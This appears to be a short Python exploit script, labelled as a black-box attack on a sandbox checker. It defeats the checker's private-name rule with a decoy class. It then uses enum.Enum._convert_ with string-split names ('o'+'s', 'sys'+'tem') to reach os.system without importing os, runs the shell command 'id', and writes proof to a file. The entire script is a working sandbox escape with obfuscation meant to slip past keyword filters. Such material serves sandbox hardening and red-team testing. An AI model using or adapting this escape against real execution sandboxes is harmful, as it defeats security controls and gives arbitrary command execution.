# source: black-box attack on sandexec check (attack12, 2026-11-26), family: 4 private-name decoy
# source: own; CPython 3.11 Lib/enum.py EnumType._convert_ reads sys.modules[module].__dict__ by module name; README: a private name is accepted when the script defines one of the same name
# family: private-name rule satisfied by a decoy + stdlib helper that looks modules up by name
# goal: the os module object (genericpath.os) and os.system('id') without importing os
import enum
import json


class Decoy:
    def _convert_(self):
        return None


E = enum.Enum._convert_("E", "o" + "s", lambda n: n == "sys" + "tem")
rc = E["sys" + "tem"].value("id > pwned_187")
import pandas as pd
proof = pd.read_csv("pwned_187", header=None).iloc[0, 0]
M = enum.Enum._convert_("M", "generic" + "path", lambda n: n == "o" + "s")
print(json.dumps({"os_module": repr(M["o" + "s"].value), "rc": rc, "proof": proof}))
